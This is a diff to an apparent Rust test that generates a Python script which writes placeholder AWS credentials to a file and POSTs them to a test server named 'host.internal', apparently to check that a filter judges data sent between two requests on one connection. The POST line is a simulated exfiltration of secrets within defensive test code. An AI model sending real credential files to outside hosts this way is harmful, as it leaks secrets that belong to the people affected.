@@ -150,13 +150,14 @@ fn clients(user: User) {
 }
 
 /// One connection, kept open: what is written between two requests is judged before the second.
+/// The file stays open: on a slow machine a closed one is put back before the second is made, and what was read of it goes out.
 fn barrier(user: User) {
     let (world, server, _outside) = scene(user);
     let program = format!(
         "import http.client, ssl, time\n\
          c = http.client.HTTPSConnection('host.internal', {}, context=ssl.create_default_context())\n\
          c.request('GET', '/first'); print(c.getresponse().read().decode())\n\
-         open('leak.txt', 'w').write('aws_access_key_id = AKIA' + 'IOSFODNN7EXAMPLA' + chr(10) + 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ' + chr(10))\n\
+         f = open('leak.txt', 'w'); f.write('aws_access_key_id = AKIA' + 'IOSFODNN7EXAMPLA' + chr(10) + 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ' + chr(10)); f.flush()\n\
          c.request('POST', '/second', open('leak.txt').read() if __import__('os').path.exists('leak.txt') else '')\n\
          r = c.getresponse(); print('second', r.status, r.read().decode())\n",
         server.port
